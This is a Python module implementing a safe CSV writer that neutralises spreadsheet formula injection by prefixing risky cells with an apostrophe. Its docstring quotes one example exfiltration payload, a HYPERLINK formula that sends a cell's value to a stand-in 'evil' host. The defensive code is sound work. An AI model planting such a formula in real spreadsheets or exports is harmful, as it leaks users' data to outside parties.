"""The one CSV writer of every file the product writes for a spreadsheet.

A cell a spreadsheet would evaluate — text starting with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return (OWASP, *CSV injection*) — is written with a leading apostrophe, which Excel,
LibreOffice and Google Sheets show as text and never run: a backer named
``=HYPERLINK("http://evil/?"&A1)`` stays a name. Numbers stay numbers: a cell that is only an
amount or a count (``-12,50``, ``+3``, ``1 234,56``, ``-0.5``) is written as it is. Use
:func:`writer` and :func:`dict_writer` instead of :mod:`csv`'s (a test checks that nothing else
in the code makes one)."""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping, Sequence
from typing import Any, TextIO

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# An amount or a count as our exports write them: sign, digits with spaces (plain or narrow
# no-break) as thousands separators, one decimal comma or point.
_NUMBER = re.compile(r"[+-]?\d[\d \u00a0\u202f]*(?:[.,]\d+)?")


def neutral(value: Any) -> Any:
    """The cell as written: text that a spreadsheet would evaluate gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(TRIGGERS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


class SafeWriter:
    def __init__(self, f: TextIO, **kwargs: Any) -> None:
        self._writer = csv.writer(f, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutral(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class SafeDictWriter:
    def __init__(self, f: TextIO, fieldnames: Sequence[str], **kwargs: Any) -> None:
        self._writer = csv.DictWriter(f, fieldnames=fieldnames, **kwargs)

    def writeheader(self) -> Any:
        return self._writer.writeheader()

    def writerow(self, row: Mapping[str, Any]) -> Any:
        return self._writer.writerow({k: neutral(v) for k, v in row.items()})

    def writerows(self, rows: Iterable[Mapping[str, Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(f: TextIO, **kwargs: Any) -> SafeWriter:
    return SafeWriter(f, **kwargs)


def dict_writer(f: TextIO, fieldnames: Sequence[str], **kwargs: Any) -> SafeDictWriter:
    return SafeDictWriter(f, fieldnames, **kwargs)
